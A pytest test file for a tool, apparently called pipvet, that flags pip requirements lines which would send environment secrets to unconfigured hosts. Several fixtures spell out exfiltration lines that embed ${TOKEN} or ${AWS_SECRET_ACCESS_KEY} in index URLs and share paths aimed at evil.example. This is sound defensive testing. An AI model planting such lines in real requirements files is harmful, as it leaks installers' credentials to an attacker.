"""Which ``${NAME}`` of a requirements file pipvet lets pip send, and where
(``pipvet.inputs.variables``); the hosts pip's own settings name (``configured_hosts``)."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipvet.inputs.requirements import parse_requirements_file
from pipvet.inputs.variables import host_of, unsafe_variables
from pipvet.update.pip_sources import configured_hosts

TRUSTED = frozenset({"pypi.acme.example"})
ENV = {"TOKEN": "t0ken", "AWS_SECRET_ACCESS_KEY": "AKIAxxxx", "INDEX": "https://x.example/s"}


def problems(tmp_path: Path, text: str) -> tuple[str, ...]:
    path = tmp_path / "requirements.txt"
    path.write_text(text, encoding="utf-8")
    return unsafe_variables(parse_requirements_file(path, environ=ENV), TRUSTED)


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://${TOKEN}@pypi.acme.example/simple",
        "--extra-index-url=https://user:${TOKEN}@pypi.acme.example:8443/simple",
        '--extra-index-url "https://${TOKEN}@pypi.acme.example/simple"',
        "--index-url ${INDEX}",  # the whole value is the user's own setting
        "-f ${HOME}/wheels",  # a path: pip sends it nowhere
        "-f C:\\wheels\\${TOKEN}",  # a Windows path too
        "-f file://${HOME}/wheels",  # a local folder
        "--extra-index-url https://${TOKEN}@pypi.org/simple",  # pip's default index
        "pkg @ git+https://${GITHUB_TOKEN}@github.com/org/repo.git",  # a code host's login
        "requests==2.32.3",
        "--extra-index-url https://evil.example/simple",  # no variable: nothing to send
    ],
)
def test_what_may_stay(tmp_path: Path, line: str) -> None:
    assert problems(tmp_path, line + "\n") == ()


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("--extra-index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple", "address"),
        ("--extra-index-url https://${AWS_SECRET_ACCESS_KEY}@evil.example/simple", "credential"),
        ("-f http://127.0.0.1:8000/?k=${TOKEN}", "address"),
        ("--index-url https://${TOKEN}.evil.example/simple", "chooses the host"),
        ("-ihttps://evil.example/${TOKEN}", "address"),
        ("--extra-index-url ${SCHEME}://evil.example/${TOKEN}", "address"),
        ("--trusted-host evil.example --find-links=https://evil.example/${TOKEN}", "address"),
        # pip splits option lines shell-style and takes glued values: judged as characters
        ("-ihttps://evil.example/?k=${TOKEN}", "address"),
        ("-fhttps://evil.example/${TOKEN}=x", "address"),
        ("--index-url https://evil.example/\\ ${TOKEN}", "address"),
        ('--extra-index-url "https://evil.example/x ${TOKEN}"', "address"),
        ("--extra-index-url https://${TOKEN}@pypi.acme.example@evil.example/", "credential"),
        ("-f \\\\evil.example\\share\\${TOKEN}", "address"),  # a Windows network path
        ("-f file://evil.example/share/${TOKEN}", "address"),  # one written as a URL
    ],
)
def test_what_is_refused(tmp_path: Path, line: str, why: str) -> None:
    (problem,) = problems(tmp_path, "requests==2.32.3\n" + line + "\n")
    assert problem.startswith(f"{tmp_path / 'requirements.txt'}:2: '")
    assert why in problem
    assert "t0ken" not in problem  # values are never shown
    assert "AKIA" not in problem


def test_an_included_file_is_checked_too(tmp_path: Path) -> None:
    (tmp_path / "more.txt").write_text(
        "--index-url https://evil.example/${TOKEN}/simple\n", encoding="utf-8"
    )
    (problem,) = problems(tmp_path, "-r more.txt\n")
    assert problem.startswith(f"{tmp_path / 'more.txt'}:1: ")


_LABEL = st.text("abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=8)


@given(host=st.lists(_LABEL, min_size=1, max_size=3).map(".".join), at=st.sampled_from(
    ["userinfo", "path", "query", "host"]))  # fmt: skip
def test_a_variable_never_reaches_an_unconfigured_host(host: str, at: str) -> None:
    url = {
        "userinfo": f"https://${{TOKEN}}@{host}/simple",
        "path": f"https://{host}/${{TOKEN}}/simple",
        "query": f"https://{host}/simple?t=${{TOKEN}}",
        "host": f"https://${{TOKEN}}{host}/simple",
    }[at]
    from pipvet.inputs.requirements_model import OptionLine, RequirementsFile
    from pipvet.models import Location

    line = f"--extra-index-url {url}"
    parsed = RequirementsFile(
        Path("r.txt"),
        (),
        (OptionLine("--extra-index-url", url, Location("r.txt", 1), line),),
    )
    trusted = {host} - ({"pypi.org", "files.pythonhosted.org"})
    found = unsafe_variables(parsed, trusted)
    # Only a credential for a host the settings name may go; everything else is refused.
    assert bool(found) is not (at == "userinfo" and bool(trusted))


def test_host_of() -> None:
    assert host_of("https://u:p@Pypi.Acme.Example:8443/simple") == "pypi.acme.example"
    assert host_of("http://[::1]:8000/simple") == "::1"
    assert host_of("/srv/wheels") is None


def test_configured_hosts_come_from_pip_settings_only(tmp_path: Path) -> None:
    conf = tmp_path / "pip.conf"
    conf.write_text(
        "[global]\nextra-index-url = https://a.example/simple\n  https://b.example/simple\n"
        "[install]\nfind-links = https://c.example/wheels\n"
        "[freeze]\nindex-url = https://not-for-install.example/simple\n",
        encoding="utf-8",
    )
    environ = {
        "HOME": str(tmp_path),
        "XDG_CONFIG_HOME": str(tmp_path / "none"),
        "XDG_CONFIG_DIRS": str(tmp_path / "none"),
        "PIP_CONFIG_FILE": str(conf),
        "PIP_INDEX_URL": "https://d.example/simple",
    }
    hosts = configured_hosts(environ, tmp_path / "prefix", dict)
    assert hosts == {"a.example", "b.example", "c.example", "d.example"}


@pytest.mark.parametrize(
    "argv",
    [
        ["-r", "requirements.txt"],
        ["-qr", "requirements.txt"],  # flags grouped before the value option
        ["-Urrequirements.txt"],
        ["--requirem", "requirements.txt"],  # a long option cut short, as optparse takes it
        ["--requirement=requirements.txt"],
        ["-c", "requirements.txt"],
    ],
)
def test_install_finds_the_file_however_pip_is_told(tmp_path: Path, argv: list[str]) -> None:
    from pipvet.cli import _install_steps
    from pipvet.errors import InputError

    (tmp_path / "requirements.txt").write_text("-f https://evil.example/${TOKEN}/\nsix\n")
    with pytest.raises(InputError):
        _install_steps.check_variables(argv, cwd=tmp_path, environ={}, configured=frozenset())
